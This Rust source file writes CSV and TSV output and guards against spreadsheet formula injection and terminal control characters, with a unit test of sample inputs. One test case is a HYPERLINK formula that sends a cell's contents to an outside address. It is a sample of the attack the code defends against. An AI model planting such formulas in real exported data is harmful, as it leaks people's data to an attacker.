//! csv and tsv.

use std::borrow::Cow;
use std::io;

use csv::{QuoteStyle, Terminator, Writer, WriterBuilder};
use hss_client::printable;

use super::{Output, Spool, spool};
use crate::args::Format;
use crate::exit::Ending;

/// Rows that are written once all are there: half a file would look like a whole one.
#[derive(Debug)]
pub(crate) struct Delimited {
    writer: Writer<Spool>,
    is_raw: bool,
    is_csv: bool,
}

impl Delimited {
    pub(crate) fn new(output: &Output) -> Self {
        let is_csv = output.format != Format::Tsv;
        let mut builder = WriterBuilder::new();
        builder.flexible(true);
        if is_csv {
            builder.terminator(Terminator::CRLF);
        } else {
            // Its cells have neither tabs nor line feeds: there is nothing to quote.
            builder.delimiter(b'\t').quote_style(QuoteStyle::Never);
        }
        Self { writer: builder.from_writer(spool()), is_raw: output.is_raw, is_csv }
    }

    pub(crate) fn push<'a>(&mut self, cells: impl Iterator<Item = Cow<'a, str>>) -> io::Result<()> {
        let cells = cells.map(|cell| match (self.is_raw, self.is_csv) {
            (true, true) => cell,
            (true, false) => Cow::Owned(printable(&cell).into_owned()),
            (false, _) => harmless(&cell).into_owned().into(),
        });
        Ok(self.writer.write_record(cells.map(|cell| cell.into_owned().into_bytes()))?)
    }

    pub(crate) fn finish(self, output: &Output) -> Result<(), Ending> {
        let spool = self.writer.into_inner().map_err(|error| Ending::Local(error.into_error()))?;
        output.kept(spool)
    }
}

/// A cell that no terminal acts on and no spreadsheet runs: control characters are escaped, and before what would
/// begin a formula stands an apostrophe.
fn harmless(cell: &str) -> Cow<'_, str> {
    let shown = printable(cell);
    match shown.chars().next() {
        // Spreadsheets take the full-width forms for the others.
        Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠') => Cow::Owned(format!("'{shown}")),
        _ => shown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bc_50_no_cell_is_a_formula() {
        for (cell, shown) in [
            ("=1+1", "'=1+1"),
            ("+1+1", "'+1+1"),
            ("-1+1", "'-1+1"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", r"\u{9}=1"),
            ("\r=1", r"\u{d}=1"),
            ("＝1+1", "'＝1+1"),
            ("\u{feff}=1", r"\u{feff}=1"),
            (r#"=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#, r#"'=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#),
            ("a=1", "a=1"),
            ("'=1", "'=1"),
            ("", ""),
            ("生产-01", "生产-01"),
        ] {
            assert_eq!(harmless(cell), shown);
        }
    }
}
